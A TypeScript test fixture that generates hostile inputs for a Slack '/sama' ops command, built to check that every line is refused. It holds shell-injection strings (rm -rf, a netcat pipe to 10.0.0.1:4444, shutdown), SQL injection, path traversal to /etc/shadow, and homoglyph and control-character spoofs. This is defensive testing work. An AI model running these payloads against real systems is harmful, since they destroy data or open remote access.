/**
 * Hostile `/sama` texts, as Slack sends them with `should_escape: true`: what a user typed has its
 * `&`, `<`, `>` escaped by Slack; a person, channel, link or special mention picked from Slack's
 * menus arrives in Slack's own `<…>` form. Every line must get a refusal or a usage answer (or an
 * ephemeral "not found"), never "the command failed", and change nothing.
 */

/** What a user may type, escaped by Slack on the way. */
const TYPED = [
  '<!channel>',
  '<!here>',
  '@everyone',
  '<@U0EVIL01>',
  '<#C0OTHER01>',
  '<https://evil.example|cliquez ici>',
  '; rm -rf /',
  '$(id)',
  '`reboot`',
  '| nc 10.0.0.1 4444',
  '&& shutdown -h now',
  '> /etc/passwd',
  '../../etc/shadow',
  "'; DROP TABLE remediation_requests; --",
  '1 OR 1=1',
  'pg_sleep(10)',
  'pg_class',
  'nosuchtable',
  'pg_catalog.pg_authid',
  'information_schema.tables',
  'urgent;',
  '-1',
  '99999999999999999999',
  'NaN',
  '%s%s%s%n',
  '{{7*7}}',
  '\\x00',
  'A'.repeat(4000),
  `${'samaconso_api_1 '.repeat(250)}`.trim(),
  'samаconso_api_1', // Cyrillic а
  'ｓａｍａｃｏｎｓｏ＿ａｐｉ＿１', // fullwidth
  'samaconso\u200B_api_1', // zero-width space
  'samaconso_api_1\u200D',
  'urgеnt', // Cyrillic е
  'ⓤⓡⓖⓔⓝⓣ',
  '🔥💥',
];

/** Control characters, typed or pasted: refused before anything reads the text. */
const CONTROL = [
  'urgent\u0000',
  '\u0000',
  'samaconso_api_1\u001b[31m',
  'a\u0007b',
  'x\u007f',
  '\u202Eurgent',
  'db\rserver',
  '\u0085',
];

/** Forms Slack itself writes (picked from the @, # menus, or pasted links). */
const SLACK_FORMS = [
  '<!channel>',
  '<!here|here>',
  '<!everyone>',
  '<!subteam^S0OPS|@ops>',
  '<@U0EVIL01|evil>',
  '<#C0OTHER01|random>',
  '<https://evil.example|cliquez>',
  '<mailto:x@evil.example|x@evil.example>',
];

/**
 * Prefixes that take an argument, each completed by a fragment into a line that must be refused:
 * the fragment stands where a target, a duration, a count, an id or a level is expected.
 */
const PREFIXES = [
  'restart',
  'restart samaconso_api_1',
  'purge',
  'purge urgent',
  'kill-queries',
  'vacuum',
  'scale celery_worker_2',
  'cleanup',
  'flush-redis',
  'audit',
  'report',
  'slo',
  'diagnose',
  'status',
  'incident',
  'incident ack',
  'incident resolve',
  'incident reopen',
  'incident open',
  'incident open N9',
  'oncall override',
  'oncall override @UNIVEAU1',
  'maintenance',
  'maintenance start',
];

/** Slack's escaping of typed text (https://docs.slack.dev/messaging/formatting-message-text/). */
export function escapedBySlack(typed: string): string {
  return typed.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
}

/** The corpus: every line as Slack sends it. */
export function hostileCommandTexts(): string[] {
  const lines: string[] = [];
  for (const prefix of PREFIXES) {
    for (const fragment of TYPED) lines.push(`${prefix} ${escapedBySlack(fragment)}`);
    for (const fragment of SLACK_FORMS) lines.push(`${prefix} ${fragment}`);
    for (const fragment of CONTROL) lines.push(`${prefix} ${fragment}`);
  }
  // A title with a control character would open an incident: the edge refuses it first.
  for (const fragment of CONTROL) lines.push(`incident open N2 ${fragment}`);
  // Whole lines: a hostile sub-command name, and control characters where the name goes.
  for (const fragment of [...TYPED, ...CONTROL]) lines.push(escapedBySlack(fragment));
  for (const fragment of SLACK_FORMS) lines.push(fragment);
  return lines;
}
